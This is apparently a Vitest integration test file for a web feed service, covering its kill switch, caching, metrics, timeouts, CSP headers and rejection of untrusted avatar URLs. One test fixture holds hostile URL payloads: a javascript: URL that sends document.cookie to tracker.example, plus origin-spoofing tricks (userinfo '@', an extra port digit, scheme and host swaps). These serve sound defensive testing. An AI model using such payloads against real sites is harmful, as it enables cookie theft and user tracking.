import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { KILL_SWITCH } from '../../server/flags/catalog.js';
import { counterValue, startTestApp, waitFor, type TestApp } from '../helpers/app.js';

/** The values of one attribute in some HTML, e.g. every img.avatar's src. */
function avatarSources(html: string): string[] {
  return [...html.matchAll(/<img class="avatar[^"]*" src="([^"]+)"/g)].map((m) => m[1]!);
}

describe('the feed', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp();
  });
  afterAll(() => app.stop());
  afterEach(async () => {
    app.simulator!.setKnobs({ mode: 'normal', errorRate: 0, latencyMs: 5 });
    await app.patchFlag(KILL_SWITCH, { state: 'ENABLED' });
  });

  it('renders live: third-party avatars and personalized recommendations', async () => {
    const { status, text } = await app.request('/?user=maya');
    expect(status).toBe(200);
    expect(text).toContain('data-show-avatars="true"');
    expect(text).toContain('id="recommendations" class="card recs" data-source="live"');
    expect(text).toContain('Maya Okafor');
    const sources = avatarSources(text);
    expect(sources.length).toBe(9); // the viewer and eight posts
    expect(sources.every((src) => src.startsWith(app.simulator!.origin))).toBe(true);
    // A cold cache (the first page after a start): one avatar call per distinct person on the page
    // (Maya is also an author: six people), and one recommendations call. The images themselves
    // are the browser's to fetch.
    expect(app.simulator!.stats().requests).toEqual({ avatars: 6, recommendations: 1, images: 0, other: 0 });
    expect(text.match(/class="post card"/g)).toHaveLength(8);
    expect(text).toMatch(/<div class="banner" id="paused-banner" role="status" hidden>/);
  });

  it('killed: makes no third-party call at all, shows fallbacks and says so', async () => {
    await app.patchFlag(KILL_SWITCH, { state: 'DISABLED' });
    app.simulator!.resetStats();
    const before = counterValue(await (await fetch(`${app.url}/metrics`)).text(), 'upstream_requests_total');
    for (const user of ['maya', 'theo', 'someone-new']) {
      const { text } = await app.request(`/?user=${user}`);
      expect(text).toContain('data-show-avatars="false"');
      expect(text).toContain('data-source="fallback"');
      expect(text).toContain('Profile photos and suggestions are temporarily unavailable.');
      expect(text).not.toMatch(/id="paused-banner" role="status" hidden/);
      expect(new Set(avatarSources(text))).toEqual(new Set(['/static/img/fallback-avatar.svg']));
    }
    const fragment = await app.request('/fragments/feed', { headers: { cookie: 'viewer=priya' } });
    expect(fragment.text).toContain('data-show-avatars="false"');
    expect(app.simulator!.stats().total).toBe(0);
    const after = counterValue(await (await fetch(`${app.url}/metrics`)).text(), 'upstream_requests_total');
    expect(after).toBe(before);
  });

  it('counts each call actually made in upstream_requests_total, by service and outcome', async () => {
    app.simulator!.resetStats();
    const metricsBefore = await (await fetch(`${app.url}/metrics`)).text();
    await app.request('/?user=lena');
    const metricsAfter = await (await fetch(`${app.url}/metrics`)).text();
    const made = (service: string) =>
      counterValue(metricsAfter, 'upstream_requests_total', { service }) -
      counterValue(metricsBefore, 'upstream_requests_total', { service });
    const stats = app.simulator!.stats();
    expect(made('recommendations')).toBe(1);
    expect(made('recommendations')).toBe(stats.requests.recommendations);
    expect(made('avatars')).toBe(stats.requests.avatars);
    expect(metricsAfter).toMatch(/flag_updates_sent_total/);
  });

  it('caches: a second page view of the same viewer calls the third party not at all', async () => {
    await app.request('/?user=jonas');
    app.simulator!.resetStats();
    await app.request('/?user=jonas');
    expect(app.simulator!.stats().total).toBe(0);
    // Another viewer: only their own avatar and recommendations; the authors' avatars are cached.
    await app.request('/?user=jonas-friend');
    expect(app.simulator!.stats().requests).toEqual({ avatars: 1, recommendations: 1, images: 0, other: 0 });
  });

  it.each(['fail', 'garbage'] as const)(
    'falls back (never an error page) when the third party is in mode %s',
    async (mode) => {
      app.simulator!.setKnobs({ mode });
      const { status, text } = await app.request('/?user=someone-else');
      expect(status).toBe(200);
      expect(text).toContain('data-source="fallback"');
      expect(text).toContain('data-show-avatars="true"');
      const metrics = await (await fetch(`${app.url}/metrics`)).text();
      expect(
        counterValue(metrics, 'upstream_requests_total', { outcome: mode === 'fail' ? 'error' : 'invalid' }),
      ).toBeGreaterThan(0);
    },
  );

  it('keeps the viewer in a cookie; without one, makes an anonymous key', async () => {
    const picked = await fetch(`${app.url}/?user=theo`);
    expect(picked.headers.get('set-cookie')).toMatch(/^viewer=theo;.*HttpOnly/i);
    const again = await app.request('/', { headers: { cookie: 'viewer=theo' } });
    expect(again.text).toContain('Theo Lindqvist');
    const anonymous = await fetch(`${app.url}/`);
    expect(anonymous.headers.get('set-cookie')).toMatch(/^viewer=anon-[A-Za-z0-9]+;/);
  });

  it('answers 400 with a clear message for a bad ?user=', async () => {
    const res = await app.request('/?user=%3Cscript%3E', { headers: { accept: 'text/html' } });
    expect(res.status).toBe(400);
    expect(res.text).toContain('user must be');
    expect(res.text).not.toContain('<script>');
  });

  it('sends security headers: a CSP with script-src self and images only from here and the avatar origin', async () => {
    const res = await fetch(`${app.url}/`);
    // Parsed into directives: each one's sources exactly, not a substring of the header.
    const csp = new Map(
      res.headers
        .get('content-security-policy')!
        .split(';')
        .map((directive) => directive.trim().split(/\s+/))
        .filter((parts) => parts[0])
        .map(([name, ...sources]) => [name!, sources]),
    );
    expect(csp.get('script-src')).toEqual(["'self'"]);
    expect(csp.get('img-src')?.sort()).toEqual(["'self'", 'data:', app.simulator!.origin].sort());
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('serves the Socket.IO client itself, and health, readiness and metrics', async () => {
    expect((await fetch(`${app.url}/socket.io/socket.io.min.js`)).status).toBe(200);
    expect((await app.request('/healthz')).status).toBe(200);
    expect(await app.request('/readyz')).toMatchObject({ status: 200, body: { status: 'ready' } });
    const metrics = await fetch(`${app.url}/metrics`);
    expect(metrics.headers.get('content-type')).toMatch(/text\/plain/);
  });
});

describe('the feed under a hanging third party', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp({ UPSTREAM_TIMEOUT_MS: '300' });
  });
  afterAll(() => app.stop());

  it('answers within about one timeout, with the fallbacks', async () => {
    app.simulator!.setKnobs({ mode: 'hang' });
    const started = performance.now();
    const { status, text } = await app.request('/?user=sam');
    const elapsed = performance.now() - started;
    expect(status).toBe(200);
    expect(text).toContain('data-source="fallback"');
    // Bounded by the timeout, not by the hang (which never ends); generous for a noisy machine.
    expect(elapsed).toBeLessThan(300 + 1200);
    // The page stops waiting at one timeout; the calls it gave up on time out on their own clock,
    // started when each was made, and are counted once their connections close: a moment later.
    const timedOut = async () =>
      counterValue(await (await fetch(`${app.url}/metrics`)).text(), 'upstream_requests_total', { outcome: 'timeout' });
    await waitFor(async () => (await timedOut()) > 0, 5000, 'a timed-out call counted');
  });
});

describe('an avatar service that answers images from elsewhere', () => {
  let app: TestApp;
  let thirdParty: Server;
  beforeAll(async () => {
    // A third party on loopback whose avatar answers point at another origin (the CSP would
    // block them, and a compromised service could track readers with them).
    thirdParty = createServer((req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        req.url!.startsWith('/avatars/')
          ? JSON.stringify({ url: 'https://tracker.example/pixel.png' })
          : JSON.stringify({ items: [] }),
      );
    });
    await new Promise<void>((resolve) => thirdParty.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(thirdParty.address() as AddressInfo).port}`;
    app = await startTestApp({ AVATAR_API_URL: `${base}/avatars` });
  });
  afterAll(async () => {
    await app.stop();
    thirdParty.closeAllConnections();
    await new Promise((resolve) => thirdParty.close(resolve));
  });

  it('refuses them as invalid answers: the page shows the fallback avatars, never the foreign URL', async () => {
    const { status, text } = await app.request('/?user=maya');
    expect(status).toBe(200);
    expect(text).not.toContain('tracker.example');
    expect(new Set(avatarSources(text))).toEqual(new Set(['/static/img/fallback-avatar.svg']));
    const metrics = await (await fetch(`${app.url}/metrics`)).text();
    expect(
      counterValue(metrics, 'upstream_requests_total', { service: 'avatars', outcome: 'invalid' }),
    ).toBeGreaterThan(0);
  });
});

/**
 * Listens on a free port of at most four digits, up to 6553: the only ports to which a digit can
 * be added and still make a valid URL (`http://127.0.0.1:PORT0/`), which is what a check of the
 * origin by its text (startsWith) would take for the service's own. Port 0 gives five digits.
 */
async function listenOnShortPort(server: Server): Promise<number> {
  for (let attempt = 0; ; attempt++) {
    const port = 1024 + Math.floor(Math.random() * (6553 - 1024));
    const error = await new Promise<NodeJS.ErrnoException | undefined>((resolve) => {
      server.once('error', resolve);
      server.listen(port, '127.0.0.1', () => {
        server.off('error', resolve);
        resolve(undefined);
      });
    });
    if (!error) return port;
    if (error.code !== 'EADDRINUSE' || attempt > 50) throw error;
  }
}

describe('an avatar service whose answers only look like its own origin', () => {
  let app: TestApp;
  let thirdParty: Server;
  let origin: string;
  /** Each person's answer from the hostile third party: one of its own images, or a URL made to pass a careless check. */
  let answers: Record<string, string>;
  const asked = new Set<string>();
  beforeAll(async () => {
    thirdParty = createServer((req, res) => {
      const person = /^\/avatars\/([^/?]+)/.exec(req.url!)?.[1];
      res.writeHead(200, { 'content-type': 'application/json' });
      if (person) asked.add(decodeURIComponent(person));
      res.end(JSON.stringify(person ? { url: answers[decodeURIComponent(person)] } : { items: [] }));
    });
    const port = await listenOnShortPort(thirdParty);
    origin = `http://127.0.0.1:${port}`;
    answers = {
      maya: `${origin}/img/maya.svg`,
      // The service's origin, then a login part: the host is tracker.example.
      theo: `${origin}@tracker.example/p.png`,
      // The service's origin, then one more digit: another port.
      priya: `${origin}0/p.png`,
      // Same host and port, another scheme: another origin, and the CSP allows only this one.
      jonas: `https://127.0.0.1:${port}/p.png`,
      lena: `javascript:fetch('https://tracker.example/?'+document.cookie)//${origin}/`,
      // The same server under another name: another origin too.
      sam: `http://localhost:${port}/p.png`,
    };
    app = await startTestApp({ AVATAR_API_URL: `${origin}/avatars` });
  });
  afterAll(async () => {
    await app.stop();
    thirdParty.closeAllConnections();
    await new Promise((resolve) => thirdParty.close(resolve));
  });

  /** Each avatar on a page: whose it is (the viewer's has no alt text) and its src. */
  const avatarsOf = (html: string) =>
    [...html.matchAll(/<img class="avatar[^"]*" src="([^"]+)" alt="([^"]*)"/g)].map((m) => ({
      alt: m[2]!,
      src: m[1]!,
    }));

  it("shows only images from the service's own origin: every other answer gives the fallback, and never reaches the page", async () => {
    for (const pathname of ['/?user=maya', '/fragments/feed?user=maya']) {
      const { status, text } = await app.request(pathname);
      expect(status).toBe(200);
      const avatars = avatarsOf(text);
      expect(avatars.length).toBe(9);
      for (const { alt, src } of avatars)
        expect(src, alt).toBe(alt === '' || alt === 'Maya Okafor' ? answers.maya : '/static/img/fallback-avatar.svg');
      for (const hostile of Object.values(answers).filter((url) => url !== answers.maya)) {
        expect(text).not.toContain(hostile);
        // Nor any part of it the page could have been made to load, escaped or not.
        expect(text).not.toContain(hostile.replace(/&/g, '&amp;').replace(/'/g, '&#39;'));
      }
      expect(text).not.toMatch(/tracker\.example|javascript:|localhost:|https:\/\/127\.0\.0\.1/);
      expect(text).not.toContain(`${origin}0`);
    }
    // Every hostile answer was given, and each was refused as an invalid answer.
    expect([...asked].sort()).toEqual(Object.keys(answers).sort());
    const metrics = await (await fetch(`${app.url}/metrics`)).text();
    expect(
      counterValue(metrics, 'upstream_requests_total', { service: 'avatars', outcome: 'invalid' }),
    ).toBeGreaterThanOrEqual(5);
  });
});

describe("a page asked for while another is fetching the authors' avatars", () => {
  let app: TestApp;
  beforeAll(async () => {
    // Two calls at a time and slow: the first page's seven avatar calls are in flight or in line a while.
    app = await startTestApp({ UPSTREAM_MAX_CONCURRENCY: '2', SIMULATOR_LATENCY_MS: '1500' });
  });
  afterAll(() => app.stop());

  it('books only its own calls: the avatars already in flight are not booked again', async () => {
    const skipped = async () =>
      counterValue(await (await fetch(`${app.url}/metrics`)).text(), 'upstream_calls_skipped_total', {
        service: 'avatars',
        reason: 'deferred',
      });
    const first = app.request('/?user=first-reader');
    await waitFor(() => app.simulator!.stats().requests.avatars > 0, 5_000, 'the first page calling');
    const before = await skipped();
    const second = await app.request('/?user=second-reader');
    expect(second.text).toContain('data-turn=');
    // Its own avatar is its one call to come; the six authors' come with the first page's.
    expect((await skipped()) - before).toBe(1);
    await first;
  });
});
